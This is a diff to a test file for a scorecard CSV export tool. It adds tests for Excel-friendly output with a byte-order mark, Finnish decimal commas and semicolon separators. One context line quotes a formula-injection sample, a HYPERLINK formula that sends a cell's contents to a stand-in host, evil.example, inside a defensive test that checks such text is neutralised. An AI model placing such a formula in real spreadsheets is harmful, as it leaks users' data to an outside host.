@@ -79,6 +79,24 @@ describe('scorecard export', () => {
     expect(records.slice(1).map((r) => r[header.indexOf('criterion')])).toEqual(card.template.criteria.map((c) => c.name));
   });
 
+  it('writes for Excel with --excel: a BOM, and in Finnish decimal commas and ; between fields', async () => {
+    const { core } = await withScorecards();
+    const fi = (await call(core, 'scorecards:export', { format: 'csv', excel: 'fi' })).content;
+    expect(fi.startsWith('\ufeffsession_id;session_title;')).toBe(true);
+    const records = parseCsv(fi).records.map((r) => r.fields);
+    expect(parseCsv(fi).delimiter).toBe(';');
+    const header = records[0]!;
+    const rows = records.slice(1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
+    expect(rows[0]).toMatchObject({ session_title: 'Week 48, discovery', overall: '53,8', comment: awkward });
+    expect(rows.map((r) => r.weight)).toEqual(['1', '2', '1,5', '1', '1']);
+    const en = (await call(core, 'scorecards:export', { format: 'csv', excel: 'en' })).content;
+    expect(en.startsWith('\ufeffsession_id,session_title,')).toBe(true);
+    expect(en).toContain(',53.8,');
+    // Without it, RFC 4180 as before: no BOM.
+    expect((await call(core, 'scorecards:export', { format: 'csv' })).content.startsWith('session_id,')).toBe(true);
+    expect(writeCsv(['a', 'b'], [['x;y', 2.5]], { excel: 'fi' })).toBe('\ufeffa;b\r\n"x;y";2,5\r\n');
+  });
+
   it('neutralises text a spreadsheet would run as a formula, and --raw keeps it as stored', async () => {
     const t = team();
     const formula = '=HYPERLINK("http://evil.example/?d="&B2)';
@@ -155,6 +173,19 @@ describe('reprise scorecards export and templates list', () => {
     const json = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'json']);
     expect(json.code).toBe(0);
     expect(JSON.parse(json.stdout)).toHaveLength(5);
+  });
+
+  it('writes an Excel file for a Finnish reader with --excel --lang fi', async () => {
+    const { core } = await withScorecards();
+    const dir = core.dataDir;
+    core.close();
+    const file = path.join(tempDir(), 'scores.csv');
+    const result = await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'csv', '--excel', '--lang', 'fi', '--out', file]);
+    expect(result.code).toBe(0);
+    const bytes = fs.readFileSync(file);
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    expect(bytes.toString('utf8')).toContain(';53,8;');
+    expect((await cli(['--data-dir', dir, 'scorecards', 'export', '--format', 'json', '--excel'])).code).toBe(2);
   });
 
   it('exits 2 without a valid --format and 1 when the file cannot be written', async () => {
